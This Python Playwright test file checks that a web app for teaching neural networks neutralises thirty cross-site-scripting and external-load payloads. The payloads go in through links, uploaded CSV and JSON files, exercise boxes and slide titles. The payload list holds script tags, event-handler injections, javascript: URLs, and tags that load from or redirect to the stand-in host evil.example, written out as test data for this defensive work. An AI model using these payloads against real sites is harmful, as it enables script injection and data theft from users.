"""Thirty payloads through every door of the page: nothing of them runs, nothing foreign is asked for or linked to."""

from __future__ import annotations

import base64
import copy
import csv
import dataclasses
import json
import re
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from urllib.parse import urlencode, urlsplit
from xml.etree import ElementTree

from playwright.sync_api import Page, expect

from core.settings import LIMITS
from playground.exercise.examples import EXAMPLES
from playground.live.looks import Looks
from scripts.app_server import AppServer
from scripts.live_page import LivePage
from tests.browser.test_pictures import MAKE, WISH

EVIL = "evil.example"
RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=//{EVIL}/x.png>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src=//{EVIL}></iframe>",
    f"<a href=//{EVIL}>x</a>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action=//{EVIL}><input autofocus onfocus={RUN}></form>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<style>@import '//{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href=//{EVIL}/>",
    f"[x](//{EVIL})",
    f"[x](javascript:{RUN})",
    f"![x](//{EVIL}/x.png)",
    f"<//{EVIL}> https://{EVIL}/x",
    f":material/home: :red[x] $\\href{{//{EVIL}}}{{x}}$",
    f"$\\htmlData{{x=y}}{{z}} \\includegraphics{{//{EVIL}/x.png}}$",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    f"javascript:{RUN}//",
)
# Where everything on the page that has an address leads, loads or sends to.
ADDRESSES = """() => [...document.querySelectorAll('[*|href], [src], [action], [formaction], [data]')]
  .flatMap((one) => ['href', 'xlink:href', 'src', 'action', 'formaction', 'data'].map((name) => one.getAttribute(name)))
  .filter((one) => one !== null).map((one) => new URL(one, location.origin))
  .map(({ protocol, host }) => protocol === 'http:' ? host : protocol)"""
SPOKEN_TO = "[data-testid='stApp'][data-test-script-state='notRunning']"


class Guard:
    """Looks after one page."""

    def __init__(self, page: Page, server: AppServer) -> None:
        self.page, self.home = page, f"127.0.0.1:{server.port}"
        self.asked: set[str] = set()
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.asked.add(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def check(self, where: str) -> None:
        """Nothing has run, nothing foreign was asked for, nothing on the page leads to where a payload wants to go."""
        assert self.page.evaluate("window.ran") is None, where
        assert self.dialogs == [], where
        assert self.page.url.startswith(f"http://{self.home}/"), where
        hosts = {urlsplit(url).netloc for url in self.asked if not url.startswith(("data:", "blob:"))}
        assert hosts == {self.home}, where
        leads = set(self.page.evaluate(ADDRESSES))
        assert self.home in leads, where
        assert leads <= {self.home, "data:", "blob:"}, where
        assert self.page.locator("[srcdoc]").count() == 0, where


def table(payloads: tuple[str, ...]) -> str:
    """A file whose columns, and whose classes, are called like that."""
    out = StringIO()
    writer = csv.writer(out, delimiter=";")
    *columns, yes, no = payloads
    writer.writerow([*columns, "class"])
    for row in range(12):
        writer.writerow([*(str((row * 7 + at * 3) % 11) for at in range(len(columns))), yes if row % 2 else no])
    return out.getvalue()


def send(page: Page, path: Path, content: str) -> None:
    path.write_text(content, encoding="utf-8")
    page.get_by_test_id("mydata-file").set_input_files(path)


def test_thirty_payloads_do_nothing_wherever_they_come_in(
    visitor: Callable[..., Page], app_server: AppServer, tmp_path: Path
) -> None:
    assert len(set(PAYLOADS)) == 30
    page = visitor(reduced_motion="reduce")
    guard = Guard(page, app_server)

    # the fields of a link, known and unknown; a lesson and a language of that name
    page_only = ["lesson", "scene", "controls", "student", "lang", "changes"]
    fields = [*LIMITS, *(look.name for look in dataclasses.fields(Looks)), *page_only]
    for turn in (0, 15):
        turned = PAYLOADS[turn:] + PAYLOADS[:turn]
        link = {name: turned[at % 30] for at, name in enumerate(dict.fromkeys(fields))}
        link |= {text: text for text in turned[:15]}
        live = LivePage(page).open(f"{app_server.url}?{urlencode(link)}")
        expect(page.locator(".st-key-notice")).to_be_visible()
        guard.check("a link")

    # the names of columns and of classes in a file, on the page, on the diagram, and in the cards
    live.open(f"{app_server.url}?hidden=3&activations=tanh&batch_size=5&panel=mydata&step=1")
    for at in range(0, 30, 6):
        send(page, tmp_path / "points.csv", table(PAYLOADS[at : at + 6]))
        page.locator(".st-key-mydata-use button").wait_for()
        guard.check(f"a file with the columns {at}")
        page.locator(".st-key-mydata-use button").click()
        expect(page.locator(".st-key-mydata-save button").first).to_be_visible()
        live.control("step").click()
        live.wait_for_step("step > 0")
        page.locator(SPOKEN_TO).wait_for()
        page.locator(".bp-diagram-head").first.hover()
        guard.check(f"a network on the columns {at}")
    page.keyboard.press("p")
    page.wait_for_selector('[data-testid="audit"][data-waiting="false"]')
    guard.check("the cards")

    # a run that was saved and written over
    with page.expect_download() as waiting:
        page.locator(".st-key-mydata-save button").first.click()
    kept = json.loads(waiting.value.path().read_text(encoding="utf-8"))
    for at, payload in enumerate(PAYLOADS):
        part = ("names", "class_names", "settings")[at % 3]
        spoiled = copy.deepcopy(kept)
        if part == "settings":
            spoiled["settings"] |= {payload: payload, "optimizer": payload}
        else:
            spoiled["data"][part][0] = payload
        send(page, tmp_path / "run.json", json.dumps(spoiled))
        page.wait_for_timeout(100)
        page.locator(SPOKEN_TO).wait_for()
        guard.check(f"a saved run with {payload}")

    # numbers typed from a sheet
    live.open(f"{app_server.url}?{urlencode(EXAMPLES['two_two_two'].to_link() | {'panel': 'exercise'})}")
    boxes = page.locator("[class*='st-key-exercise-'] textarea")
    boxes.first.wait_for()
    for at, payload in enumerate(PAYLOADS):
        boxes.nth(at % boxes.count()).fill(payload)
        if at % boxes.count() == boxes.count() - 1 or at == 29:
            page.keyboard.press("Control+Enter")
            page.locator(".st-key-exercise-run button").click()
            expect(page.locator(".st-key-refused-exercise").first).to_be_visible()
            guard.check(f"an exercise up to {at}")

    # the title of a slide
    for payload in PAYLOADS:
        made = page.evaluate(MAKE, {**WISH, "format": "svg", "title": payload})
        root = ElementTree.fromstring(base64.b64decode(made["data"]))
        attributes = [(name, value) for node in root.iter() for name, value in node.attrib.items()]
        assert not [node.tag for node in root.iter() if re.search("script|foreignObject|}a$|iframe", node.tag)], payload
        assert not [name for name, _ in attributes if name.startswith("on")], payload
        assert not [v for n, v in attributes if n.endswith("href") and not v.startswith(("#", "data:"))], payload
        assert payload in [node.text for node in root.iter()], payload
    guard.check("the slide")
